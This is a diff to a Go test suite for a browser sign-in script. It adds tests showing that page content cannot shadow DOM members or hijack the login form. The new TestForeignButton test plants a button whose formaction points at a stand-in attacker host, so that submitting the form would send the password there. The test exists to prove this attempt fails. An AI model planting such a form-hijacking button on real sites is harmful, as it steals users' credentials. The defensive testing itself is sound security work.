@@ -17,7 +17,7 @@ const original = `window.page = new Proxy(document, { get(target, name) {
 
 // members are the names of all that the platform lets a page ask of a document, a form or the window.
 const members = `[...new Set([Document, Node, Element, HTMLElement, HTMLFormElement, EventTarget].flatMap((type) => Object.getOwnPropertyNames(type.prototype))
-	.concat(Object.getOwnPropertyNames(window), "Go", "fs", "process", "path", "scope", "bridge", "keygenAuth", "id", "name"))]
+	.concat(Object.getOwnPropertyNames(window), "Go", "fs", "process", "path", "scope", "bridge", "keygenAuth", "requestIdleCallback", "id", "name"))]
 	.filter((name) => /^\w+$/.test(name))`
 
 // TestShadowedMembers has what a visitor may have written into a page, in front of the script tag, hide members of the
@@ -37,7 +37,7 @@ func TestShadowedMembers(t *testing.T) {
 		t.Run(kind.name, func(t *testing.T) {
 			t.Parallel()
 			s := newStage(t, map[string]string{"plain.html": "<!doctype html><title>Page</title>"})
-			host := attacker(t)
+			host := "http://" + attacker(t)
 			s.open("/plain.html")
 			names := eval[[]string](s.tab, members)
 			require.Greater(t, len(names), 300)
@@ -85,8 +85,8 @@ func TestShadowingTargets(t *testing.T) {
 			`<form id="shown" data-keygen-show="signed-in" action="#"><input name="hidden"><input name="getAttribute"><input name="setAttribute">`+
 			`<input name="toggleAttribute"></form>`+member)})
 	s.open("/form.html")
-	s.untilAttached()
-	s.do(`for (const type of ["click", "focusin", "pointerdown", "input", "submit"])
+	s.until(`document.querySelector("#login").hasAttribute("method")`)
+	s.do(`for (const type of ["click", "focusin", "pointerdown", "input"])
 		for (const target of [document.querySelector("#theirs"), document, window])
 			target.dispatchEvent(new Event(type, { bubbles: true, cancelable: true }))`)
 	assert.False(t, eval[bool](s.tab, `document.querySelector("#shown").checkVisibility()`))
@@ -94,4 +94,18 @@ func TestShadowingTargets(t *testing.T) {
 	s.untilSignedIn()
 	s.until(`document.querySelector("#shown").checkVisibility()`)
 	assert.Empty(t, s.lines())
+}
+
+// TestForeignButton presses a button that content elsewhere in the page ties to the sign-in form, on a site without a
+// policy: the password does not go where it says.
+func TestForeignButton(t *testing.T) {
+	t.Parallel()
+	s := newStage(t, nil)
+	s.files["form.html"] = file(document("", `<button id="theirs" form="login" formaction="http://`+attacker(t)+`/">Win</button>`+tutorialForm))
+	s.strange("")
+	s.open("/form.html")
+	s.fill(s.demo.Plain.Email, s.demo.Plain.Password)
+	s.click("#theirs")
+	s.until(`document.querySelector("form").ariaBusy === "true"`)
+	assert.Equal(t, s.url+"/form.html", eval[string](s.tab, `location.href`))
 }
